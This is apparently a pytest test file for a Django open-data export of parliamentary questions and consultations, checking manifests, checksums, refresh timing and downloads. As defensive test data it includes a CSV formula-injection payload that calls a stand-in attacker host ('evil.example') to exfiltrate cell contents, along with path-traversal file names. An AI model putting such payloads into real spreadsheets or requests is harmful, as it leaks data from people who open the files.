"""The open-data export: files that round-trip, a manifest whose checksums match, atomic
replacement, the nightly job, and the page and downloads."""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import hashlib
import io
import json
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from moot.api.opendata import datasets
from moot.api.opendata.export import open_data_export, open_data_export_due
from moot.api.opendata.files import open_data_manifest
from moot.core.background import PeriodicJob, registered_jobs
from moot.parliament.models import WrittenQuestion
from moot.parliament.services.votes import answer_vote_cast
from tests.api.conftest import SITE, World
from tests.factories import WrittenQuestionFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _open_data_dir(settings: Any, tmp_path: Path) -> Path:
    settings.OPEN_DATA_DIR = tmp_path / "open-data"
    return settings.OPEN_DATA_DIR


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    with gzip.open(path, "rt", encoding="utf-8") as handle:
        return [json.loads(line) for line in handle]


def read_csv(path: Path) -> list[dict[str, str]]:
    with gzip.open(path, "rt", encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def current_folder(root: Path) -> Path:
    return root / "exports" / (root / "CURRENT").read_text()


def test_export_round_trips_every_dataset(world: World, settings: Any) -> None:
    manifest = open_data_export()
    folder = current_folder(settings.OPEN_DATA_DIR)
    names = {entry["name"] for entry in manifest["files"]}
    for dataset in datasets.DATASETS:
        assert f"{dataset.name}.jsonl.gz" in names
        assert f"{dataset.name}.csv.gz" in names
    questions = read_jsonl(folder / "questions.jsonl.gz")
    assert [q["key"] for q in questions] == [
        "2008-03-04/hl1234",
        "2009-10-27/295019",
        "2009-10-27/295020",
        "2009-11-02/300001",
    ]
    first = questions[1]
    assert first["question_numbers"] == ["295019"]
    assert first["department_slug"] == "dcsf"
    assert first["is_answered"] is True
    assert first["html_url"] == f"{SITE}/written-questions/2009-10-27/295019/"
    [answer] = read_jsonl(folder / "answers.jsonl.gz")
    assert answer["question_keys"] == ["2009-10-27/295019", "2009-10-27/295020"]
    assert answer["body_text"] == "Guidance was published in 2009."
    # The CSV has the same rows and columns, lists joined.
    csv_questions = read_csv(folder / "questions.csv.gz")
    assert list(csv_questions[0]) == list(questions[0])
    assert [row["key"] for row in csv_questions] == [q["key"] for q in questions]
    assert read_csv(folder / "answers.csv.gz")[0]["question_keys"] == (
        "2009-10-27/295019; 2009-10-27/295020"
    )
    assert csv_questions[1]["is_answered"] == "true"
    assert csv_questions[0]["date_tabled"] == ""


FORMULA_HEADINGS = [
    '=HYPERLINK("https://evil.example/?d="&A1, "Schools")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed: heading",
    "\rReturned: heading",
]


def test_csv_cells_that_could_run_as_formulas_go_out_as_text(settings: Any, db: None) -> None:
    for number, heading in enumerate(FORMULA_HEADINGS):
        WrittenQuestionFactory(heading=heading, identifier=f"formula-{number}")
    WrittenQuestionFactory(heading="Schools: Meals", identifier="plain")
    open_data_export()
    folder = current_folder(settings.OPEN_DATA_DIR)
    by_identifier = {row["identifier"]: row for row in read_csv(folder / "questions.csv.gz")}
    for number, heading in enumerate(FORMULA_HEADINGS):
        assert by_identifier[f"formula-{number}"]["heading"] == f"'{heading}"
    assert by_identifier["plain"]["heading"] == "Schools: Meals"
    assert by_identifier["plain"]["date"] == "2007-12-03"  # dates and numbers as they were
    # The JSON Lines file is not opened by spreadsheets: it keeps the text as it is.
    in_json = {
        row["identifier"]: row["heading"] for row in read_jsonl(folder / "questions.jsonl.gz")
    }
    assert [in_json[f"formula-{n}"] for n in range(len(FORMULA_HEADINGS))] == FORMULA_HEADINGS


def test_export_holds_public_records_only(world: World, settings: Any) -> None:
    open_data_export()
    folder = current_folder(settings.OPEN_DATA_DIR)
    everything = "".join(
        gzip.decompress(path.read_bytes()).decode() for path in folder.glob("*.gz")
    )
    assert "secret-draft" not in everything
    assert "Draft section" not in everything
    assert "Draft summary" not in everything
    consultations = read_jsonl(folder / "consultations.jsonl.gz")
    assert [c["slug"] for c in consultations] == ["school-meals", "safeguarding-children"]
    [summary] = read_jsonl(folder / "summaries_of_responses.jsonl.gz")
    assert summary["consultation_slug"] == "school-meals"
    assert {a["title"] for a in read_jsonl(folder / "attachments.jsonl.gz")} == {
        "Consultation document",
        "Guidance (PDF)",
    }


def test_manifest_counts_sizes_and_checksums_match_the_files(world: World, settings: Any) -> None:
    manifest = open_data_export()
    folder = current_folder(settings.OPEN_DATA_DIR)
    on_disk = json.loads((folder / "manifest.json").read_text())
    assert on_disk["schema_version"] == 1
    assert on_disk["files"] == manifest["files"]
    for entry in manifest["files"]:
        data = (folder / entry["name"]).read_bytes()
        assert entry["bytes"] == len(data)
        assert entry["sha256"] == hashlib.sha256(data).hexdigest()
        reader = read_jsonl if entry["format"] == "jsonl" else read_csv
        assert entry["rows"] == len(reader(folder / entry["name"]))
    licences = {e["dataset"]: e["licence"]["name"] for e in manifest["files"]}
    assert licences["questions"] == "Open Parliament Licence v3.0"
    assert licences["consultations"] == "Open Government Licence v3.0"


def test_same_data_gives_the_same_bytes(world: World) -> None:
    first = {e["name"]: e["sha256"] for e in open_data_export()["files"]}
    second = {e["name"]: e["sha256"] for e in open_data_export()["files"]}
    assert first == second


def test_a_crash_mid_export_leaves_the_previous_export_intact(
    world: World, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = open_data_export()
    root = settings.OPEN_DATA_DIR
    folder = current_folder(root)

    def failing() -> Any:
        yield {"consultation_slug": "x", "position": 1, "kind": "other", "heading": "", "body": ""}
        raise OSError("disk full")

    broken = [
        d
        if d.name != "consultation_sections"
        else datasets.Dataset(d.name, d.title, d.licence, d.columns, failing)
        for d in datasets.DATASETS
    ]
    monkeypatch.setattr("moot.api.opendata.export.DATASETS", tuple(broken))
    with pytest.raises(OSError, match="disk full"):
        open_data_export()
    assert current_folder(root) == folder
    assert open_data_manifest()["generated_at"] == before["generated_at"]
    for entry in before["files"]:
        data = (folder / entry["name"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"]
    assert [p.name for p in (root / "exports").iterdir()] == [folder.name]


def test_keeps_the_current_and_previous_exports_only(world: World, settings: Any) -> None:
    root = settings.OPEN_DATA_DIR
    names = []
    for _ in range(3):
        open_data_export()
        names.append((root / "CURRENT").read_text())
    assert sorted(p.name for p in (root / "exports").iterdir()) == sorted(names[1:])


def test_command_writes_to_the_folder_given(world: World, tmp_path: Path) -> None:
    out = io.StringIO()
    call_command("export_open_data", "--output", str(tmp_path / "elsewhere"), stdout=out)
    assert "questions.jsonl.gz: 4 rows" in out.getvalue()
    assert open_data_manifest(root=tmp_path / "elsewhere") is not None


def test_nightly_job_is_registered_and_runs_once_a_night(world: World, settings: Any) -> None:
    [job] = [job for job in registered_jobs() if job.name == "api.open-data-export"]
    assert job.scope == "cluster"
    settings.OPEN_DATA_EXPORT_HOUR = 2
    assert open_data_export_due()  # nothing exported yet
    job.run()
    generated = dt.datetime.fromisoformat(open_data_manifest()["generated_at"])
    local = timezone.localtime(generated)
    next_slot = (local + dt.timedelta(days=1)).replace(hour=2, minute=0, second=0, microsecond=0)
    if local.hour < 2:
        next_slot -= dt.timedelta(days=1)
    assert not open_data_export_due(now=next_slot - dt.timedelta(minutes=1))
    assert open_data_export_due(now=next_slot + dt.timedelta(minutes=1))


def test_answers_carry_vote_counts_and_nothing_of_the_voters(world: World, settings: Any) -> None:
    for number, side in enumerate([True, False, False]):
        answer_vote_cast(
            answer=world.answer,
            answers_question=side,
            voter_id=f"reader-{number}",
            ip_hash=f"address-{number}",
        )
    open_data_export()
    folder = current_folder(settings.OPEN_DATA_DIR)
    [answer] = read_jsonl(folder / "answers.jsonl.gz")
    assert (answer["votes_yes"], answer["votes_no"]) == (1, 2)
    [row] = read_csv(folder / "answers.csv.gz")
    assert (row["votes_yes"], row["votes_no"]) == ("1", "2")
    for name in ("answers.jsonl.gz", "questions.jsonl.gz"):
        with gzip.open(folder / name, "rt", encoding="utf-8") as handle:
            text = handle.read()
        assert "reader-" not in text
        assert "address-" not in text


# Refreshing between nights ---------------------------------------------------------------


@pytest.fixture
def export_job(settings: Any) -> PeriodicJob:
    settings.OPEN_DATA_REFRESH_DEBOUNCE_SECONDS = 300
    settings.OPEN_DATA_REFRESH_MAX_DELAY_SECONDS = 3600
    # The nightly slot far from the hour these tests move through, so only changes count.
    settings.OPEN_DATA_EXPORT_HOUR = (timezone.localtime().hour + 12) % 24
    [job] = [job for job in registered_jobs() if job.name == "api.open-data-export"]
    return job


def run_at(job: PeriodicJob, moment: dt.datetime) -> str | None:
    """Run the worker's check at ``moment``: the name of the export it made, if any."""
    before = open_data_manifest()
    with time_machine.travel(moment, tick=False):
        job.run()
    after = open_data_manifest()
    assert after is not None
    return after["export"] if before is None or after["export"] != before["export"] else None


def manifest_time(manifest: dict[str, Any], key: str) -> dt.datetime:
    return dt.datetime.fromisoformat(manifest[key].replace("Z", "+00:00"))


def test_a_change_makes_the_next_check_export_and_no_change_none(
    world: World, settings: Any, export_job: PeriodicJob
) -> None:
    assert run_at(export_job, timezone.now()) is not None  # the first export
    first = open_data_manifest()
    assert first is not None
    assert manifest_time(first, "as_of") >= world.lords_question.updated_at
    assert manifest_time(first, "generated_at") >= manifest_time(first, "as_of")
    later = timezone.now() + dt.timedelta(minutes=20)
    assert run_at(export_job, later) is None  # nothing changed
    question = world.unanswered
    question.heading = "Police: Numbers"
    question.save()
    changed = question.updated_at
    assert run_at(export_job, changed + dt.timedelta(seconds=290)) is None  # settling
    assert run_at(export_job, changed + dt.timedelta(seconds=310)) is not None
    refreshed = open_data_manifest()
    assert refreshed is not None
    # as_of is the latest change the files hold: the edit (or its entry in the change log).
    as_of = manifest_time(refreshed, "as_of")
    assert changed <= as_of < changed + dt.timedelta(seconds=5)
    headings = [
        q["heading"]
        for q in read_jsonl(current_folder(settings.OPEN_DATA_DIR) / "questions.jsonl.gz")
    ]
    assert "Police: Numbers" in headings
    assert run_at(export_job, changed + dt.timedelta(minutes=30)) is None


def test_two_quick_changes_make_one_export_after_the_debounce(
    world: World, export_job: PeriodicJob
) -> None:
    open_data_export()
    start = timezone.now()
    WrittenQuestionFactory(heading="First change")
    with time_machine.travel(start + dt.timedelta(seconds=60), tick=False):
        WrittenQuestionFactory(heading="Second change, a minute later")
    last = start + dt.timedelta(seconds=60)
    made = [
        run_at(export_job, last + dt.timedelta(seconds=seconds))
        for seconds in (10, 250, 290, 310, 400, 900)
    ]
    # 300 s after the first change the second is only 240 s old: still settling.
    assert made[:3] == [None, None, None]
    assert made[3] is not None
    assert made[4:] == [None, None]


def test_steady_changes_are_exported_after_the_longest_delay(
    world: World, settings: Any, export_job: PeriodicJob
) -> None:
    settings.OPEN_DATA_REFRESH_MAX_DELAY_SECONDS = 600
    open_data_export()
    start = timezone.now()
    WrittenQuestionFactory(heading="Change 0")
    for seconds in (250, 500):
        with time_machine.travel(start + dt.timedelta(seconds=seconds), tick=False):
            WrittenQuestionFactory(heading=f"Change {seconds}")
    # Never quiet for 300 s, but the first change waits no longer than 600 s.
    assert run_at(export_job, start + dt.timedelta(seconds=590)) is None
    assert run_at(export_job, start + dt.timedelta(seconds=610)) is not None


def test_a_deletion_alone_is_seen_through_the_change_log(
    world: World, settings: Any, export_job: PeriodicJob
) -> None:
    open_data_export()
    WrittenQuestion.objects.filter(pk=world.unanswered.pk).delete()
    assert run_at(export_job, timezone.now() + dt.timedelta(seconds=310)) is not None
    keys = [
        q["key"] for q in read_jsonl(current_folder(settings.OPEN_DATA_DIR) / "questions.jsonl.gz")
    ]
    assert "2009-11-02/300001" not in keys


# The page and the downloads --------------------------------------------------------------


def test_page_before_the_first_export(client: Client, db: None) -> None:
    page = client.get(reverse("api:open_data"))
    assert page.status_code == 200
    assert "The first export has not been made yet" in page.content.decode()
    response = client.get("/api/v1/open-data/")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/problem+json"


def test_page_lists_files_with_sizes_checksums_and_licences(client: Client, world: World) -> None:
    manifest = open_data_export()
    page = client.get(reverse("api:open_data")).content.decode()
    assert page.count('data-testid="open-data-file"') == len(manifest["files"])
    questions = next(e for e in manifest["files"] if e["name"] == "questions.csv.gz")
    assert questions["sha256"] in page
    assert "Written questions (CSV)" in page
    assert "Open Parliament Licence v3.0" in page
    assert "Open Government Licence v3.0" in page
    assert "include every change up to" in page


def test_downloads_are_the_exported_files(client: Client, world: World) -> None:
    manifest = open_data_export()
    entry = next(e for e in manifest["files"] if e["name"] == "members.jsonl.gz")
    response = client.get(reverse("api:open_data_file", args=["members.jsonl.gz"]))
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    assert hashlib.sha256(data).hexdigest() == entry["sha256"]
    assert response["Content-Type"] == "application/gzip"
    assert response["ETag"] == f'"{entry["sha256"]}"'
    assert "attachment" in response["Content-Disposition"]
    again = client.get(
        reverse("api:open_data_file", args=["members.jsonl.gz"]),
        headers={"if-none-match": response["ETag"]},
    )
    assert again.status_code == 304
    manifest_file = client.get(reverse("api:open_data_file", args=["manifest.json"]))
    assert json.loads(b"".join(manifest_file.streaming_content))["files"] == manifest["files"]


@pytest.mark.parametrize("name", ["nothing.csv.gz", "..%2FCURRENT", ".export.lock", "CURRENT"])
def test_only_listed_files_are_served(client: Client, world: World, name: str) -> None:
    open_data_export()
    assert client.get(f"/open-data/{name}").status_code == 404


def test_api_lists_the_downloads(client: Client, world: World) -> None:
    manifest = open_data_export()
    response = client.get("/api/v1/open-data/")
    assert response.status_code == 200
    body = response.json()
    assert body["generated_at"] == manifest["generated_at"]
    assert body["as_of"] == manifest["as_of"]
    assert body["as_of"] is not None
    first = body["files"][0]
    assert first["download_url"] == f"{SITE}/open-data/{first['name']}"
    assert body["manifest_url"] == f"{SITE}/open-data/manifest.json"
